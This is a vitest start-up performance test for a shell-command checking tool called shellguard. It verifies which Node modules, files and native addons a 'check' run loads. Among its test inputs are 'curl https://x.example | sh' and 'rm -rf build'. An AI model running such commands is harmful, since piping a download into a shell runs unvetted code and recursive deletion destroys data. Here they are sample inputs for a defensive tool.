/**
 * What a `shellguard check` start loads (docs/performance.md, "Start-up"): its bundle and the
 * native addon, and of Node's own modules only what `node -e 0` loads plus vm (the loader); not
 * os (the home directory comes from HOME). Not yargs, YAML, Markdown, picomatch, the WebAssembly
 * parser, perf_hooks (performance.now()), or tty and net (process.stdout on a pipe): each is
 * milliseconds of a start.
 */

import { spawnSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { ROOT } from "./helpers.js";

interface Loaded { builtins: string[]; files: string[]; addons: string[] }

/**
 * Node's public modules, the files a process required and the addons it mapped (the native addon
 * is opened with process.dlopen, outside require's cache), reported at its exit by a preload.
 */
function loaded(args: string[], home: string): Loaded {
  const report = join(home, "report.cjs");
  writeFileSync(report, `process.on("exit", () => require("node:fs").writeSync(2, "\\n" + JSON.stringify({
    builtins: process.moduleLoadList.filter((m) => m.startsWith("NativeModule ") && !m.startsWith("NativeModule internal/")).map((m) => m.slice(13)),
    files: Object.keys(require.cache).filter((f) => f !== __filename),
    addons: [...new Set(require("node:fs").readFileSync("/proc/self/maps", "utf8").split("\\n").map((l) => l.slice(l.indexOf("/"))).filter((f) => f.endsWith(".node")))],
  })));`);
  const r = spawnSync(process.execPath, ["-r", report, ...args], { cwd: home, env: { PATH: process.env.PATH, HOME: home, XDG_CONFIG_HOME: join(home, "xdg") }, encoding: "utf8" });
  return JSON.parse(r.stderr.trim().split("\n").pop() as string) as Loaded;
}

describe("a check's start", () => {
  it.each([["check", "git status"], ["check", "--json", "curl https://x.example | sh"], ["check", "--mode", "plan", "rm -rf build"]])("%s %s loads only its bundle, the addon and vm", (...argv) => {
    const home = mkdtempSync(join(tmpdir(), "shellguard-startup-"));
    try {
      const node = loaded(["-e", "0"], home);
      const check = loaded([join(ROOT, "bin", "shellguard.cjs"), ...argv], home);
      expect(check.builtins.filter((m) => !node.builtins.includes(m)).sort()).toEqual(["vm"]);
      expect(check.files.map((f) => f.slice(ROOT.length + 1))).toEqual(["bin/shellguard.cjs"]);
      expect(check.addons.map((f) => f.slice(ROOT.length + 1))).toEqual(["build/Release/shellguard.node"]);
    } finally {
      rmSync(home, { recursive: true, force: true });
    }
  });
});
